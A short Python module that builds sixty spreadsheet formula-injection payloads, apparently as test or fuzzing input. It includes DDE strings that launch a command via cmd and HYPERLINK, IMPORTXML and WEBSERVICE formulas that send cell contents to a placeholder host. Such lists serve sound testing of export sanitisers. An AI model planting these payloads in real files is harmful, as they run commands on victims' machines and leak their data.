"""Sixty ways to make a spreadsheet program run what somebody typed."""

CALLS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?"&A1,"Open")',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    'WEBSERVICE("http://example.org/")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd","/C calc","x")',
    "A1",
    "1E999",
]
SIGNS = ["=", "+", "-", "@", "\t=", "\r="]
PAYLOADS = [sign + call for call in CALLS for sign in SIGNS] + [
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "{=1+1}",
    "'=1+1",
    "\x0b=1+1",
]
